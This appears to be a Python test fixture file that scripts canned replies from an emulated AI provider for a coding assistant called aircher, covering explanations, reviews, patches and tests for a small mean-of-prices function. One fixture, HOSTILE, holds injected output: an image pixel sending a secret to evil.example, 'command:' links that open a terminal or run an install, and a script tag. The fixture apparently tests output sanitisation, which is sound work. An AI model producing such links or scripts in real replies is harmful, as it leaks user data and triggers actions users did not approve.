"""What the emulated provider answers to each of aircher's tasks, told apart by the instructions."""

from __future__ import annotations

import json
from typing import Any

BEFORE = "def total(prices):\n    return sum(prices)\n"
CODE = BEFORE + "\n\ndef mean(prices):\n    return total(prices) / len(prices)\n"
MESSAGE = "Add the mean of prices"
EXPLANATION = """`mean` gives the **average price**: the sum of all prices, by how many there are.

1. `total` adds them up.
2. The sum is divided by `len(prices)`.

An empty list has no mean, and here it raises `ZeroDivisionError`. A caller that may have no prices
should ask first:

```python
if prices:
    print(mean(prices))
```
"""
ANSWER = "Yes: **an empty list** divides by zero."
HOSTILE = """Look: ![pixel](https://evil.example/x.png?secret=1) and
[press me](command:workbench.action.terminal.new) and [docs](https://evil.example/docs).

<img src="https://evil.example/y.png"><script>alert(1)</script>
<a href="command:aircher.install">install</a>
"""
EMPTY = """An empty list made it divide by zero.

<<<<<<< SEARCH
    return total(prices) / len(prices)
=======
    if not prices:
        return 0
    return total(prices) / len(prices)
>>>>>>> REPLACE
"""
FINDING = {
    "file": "shop.py",
    "quote": "    return total(prices) / len(prices)",
    "severity": "error",
    "title": "An empty list divides by zero",
    "why": "`mean([])` raises ZeroDivisionError, and nothing keeps a caller from it.",
    "fix": "    return total(prices) / len(prices) if prices else 0",
}


TESTS = """```python
from shop import mean


def test_mean():
    assert mean([2]) == 2
```
"""


def fixtures() -> list[dict[str, Any]]:
    """In the order they are tried."""
    return [
        said("checkPrices", ANSWER, user=True),
        said("hostile", HOSTILE, user=True),
        said("slowly", "word " * 600, user=True, latency=40, chunkSize=5),
        said("You check the findings", '{"number": 1, "holds": true, "why": "nothing checks"}'),
        said("You review", json.dumps(FINDING)),
        said("You explain", EXPLANATION, latency=25, chunkSize=6),
        said("short account", "It adds the **mean** of prices."),
        said("You mend", EMPTY, latency=60, chunkSize=12),
        said(
            "documentation comment",
            "Documented.\n\n<<<<<<< SEARCH\ndef mean(prices):\n=======\ndef mean(prices):\n"
            '    """The mean price."""\n>>>>>>> REPLACE\n',
        ),
        said(
            "change the structure",
            "Renamed.\n\n<<<<<<< SEARCH\ndef total(prices):\n    return sum(prices)\n=======\n"
            "def total(amounts):\n    return sum(amounts)\n>>>>>>> REPLACE\n",
        ),
        said("You write tests", TESTS),
        said("You write code", "```python\n\n\ndef low(prices):\n    return min(prices)\n```"),
        said("commit", MESSAGE, latency=30, chunkSize=4),
        said("", ANSWER),
    ]


def said(words: str, content: str, *, user: bool = False, **more: int) -> dict[str, Any]:
    """One answer, when the instructions (or the user's own words) hold `words`."""
    match = {"userMessage" if user else "systemMessage": words} if words else {}
    return {"match": match, "response": {"content": content}, **more}
